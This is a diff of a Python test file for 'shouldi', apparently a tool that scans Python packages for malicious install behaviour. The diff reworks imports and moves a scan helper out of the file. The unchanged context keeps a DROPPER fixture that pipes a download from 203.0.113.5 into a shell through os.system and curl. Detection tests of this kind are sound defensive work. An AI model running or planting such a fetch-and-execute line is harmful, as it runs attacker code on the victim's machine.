@@ -12,11 +12,10 @@ from __future__ import annotations
 import base64
 
 import pytest
-from scanner_trees import sdist_tree, wheel_tree
+from test_heuristics import scan
 
 from shouldi.policy import Policy
-from shouldi.results import Severity, Status
-from shouldi.scanners.heuristics import HeuristicsScanner
+from shouldi.results import Severity
 from shouldi.verdict.report import Verdict
 from shouldi.verdict.rules import finding_reasons
 
@@ -24,13 +23,6 @@ C, H, M = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM
 DROPPER = "import os\nos.system('curl -s http://203.0.113.5/x | sh')\n"
 SETUP_TAIL = "\nfrom setuptools import setup\nsetup(name='demo', version='1.0', packages=['demo'])\n"
 SCRIPT_ENTRY = "[console_scripts]\ndemo = demo.cli:main\n"
-
-
-def scan(tmp_path, files, wheel=False):
-    tree = (wheel_tree if wheel else sdist_tree)(tmp_path, files)
-    result = HeuristicsScanner().scan(tree)
-    assert result.status is Status.OK, result.reason
-    return result
 
 
 def verdict(result):
